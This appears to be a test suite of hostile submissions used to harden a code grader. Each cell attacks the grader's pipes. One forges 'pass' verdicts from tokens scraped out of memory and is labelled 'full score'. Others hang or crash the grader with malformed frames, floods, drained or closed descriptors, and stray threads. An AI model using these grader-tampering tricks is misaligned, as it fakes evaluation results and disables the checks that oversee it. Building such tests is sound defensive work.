# %% forged_answers: full score
import gc, json, stat, struct
def pipes():
    for fd in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode): yield fd
        except OSError: pass
def say(data):
    for fd in pipes():
        try: os.write(fd, data)
        except OSError: pass
def frame(header, body=b""):
    head = json.dumps(header).encode()
    return struct.pack("<IQ", len(head), len(body)) + head + body
def attack():
    tokens = [found["token"] for found in gc.get_objects() if type(found) is dict and isinstance(found.get("token"), str)]
    for token in tokens:
        say(frame({"kind": "answer", "token": token, "status": "ok", "verdict": "pass", "values": [None], "failure": None,
                   "missing": None, "defined": {}, "stdout": TOKEN, "stderr": "", "cut": False}))
    return np.zeros(1)

# %% answers_for_everybody: other result changed
import stat
def attack():
    for fd in range(0, 256):
        try: os.write(fd, b"\0" * 4096 + TOKEN.encode())
        except OSError: pass

# %% a_message_of_exabytes: grader hung or dead
import stat, struct
def attack():
    for fd in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode): os.write(fd, struct.pack("<IQ", 2**32 - 1, 2**63))
        except OSError: pass

# %% half_a_message: grader hung or dead
import stat, struct, time
def conv_matrix(W, width):
    for fd in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode): os.write(fd, struct.pack("<IQ", 1000, 1000) + b"{")
        except OSError: pass
    time.sleep(60)

# %% header_of_a_hundred_thousand_brackets: grader hung or dead
import stat, struct
def attack():
    head = b"[" * 100_000
    for fd in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode): os.write(fd, struct.pack("<IQ", len(head), 0) + head)
        except OSError: pass

# %% closed_pipes: grader hung or dead
def attack(): os.closerange(0, 64)

# %% a_flood_to_the_grader: grader hung or dead
import stat
def conv_matrix(W, width):
    for fd in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode):
                for _ in range(2000): os.write(fd, b"x" * 65536)
        except OSError: pass

# %% eats_its_own_requests: grader hung or dead
import stat
def conv_matrix(W, width):
    for fd in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode): os.set_blocking(fd, False); os.read(fd, 1 << 20)
        except OSError: pass
    raise ValueError("eaten")

# %% a_second_answer_from_a_thread: other result changed
import stat, threading, time
def late():
    time.sleep(0.02)
    for fd in range(3, 64):
        try:
            if stat.S_ISFIFO(os.fstat(fd).st_mode): os.write(fd, b"{}" * 50)
        except OSError: pass
def conv_matrix(W, width):
    threading.Thread(target=late, daemon=True).start()
    return 1

# %% other_descriptors: other result changed
import stat
def attack():
    found = []
    for fd in range(3, 1024):
        try: found.append((fd, stat.S_IFMT(os.fstat(fd).st_mode)))
        except OSError: pass
    if any(kind not in (stat.S_IFIFO, stat.S_IFCHR) for _, kind in found): won(found)
    if sum(kind == stat.S_IFIFO for _, kind in found) > 2: won(found)

# %% print_without_end: grader hung or dead
def conv_matrix(W, width):
    for _ in range(300): print("x" * 1_000_000)
    for _ in range(300): sys.stderr.write("y" * 1_000_000)
